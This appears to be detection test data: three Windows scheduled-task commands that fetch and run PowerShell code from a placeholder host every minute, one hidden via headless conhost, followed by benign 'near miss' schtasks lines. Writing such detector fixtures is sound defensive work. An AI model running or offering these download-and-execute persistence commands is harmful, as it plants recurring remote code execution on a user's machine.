schtasks /create /tn notes /sc minute /tr "powershell -c irm https://a.invalid/t | iex"
New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-c "irm https://a.invalid/t | iex"'
New-ScheduledTaskAction -Execute 'conhost.exe' -Argument '--headless powershell -c "irm https://a.invalid/t | iex"'
# near misses
schtasks /query /tn notes
schtasks /create /tn notes /sc daily /tr "notepad.exe"
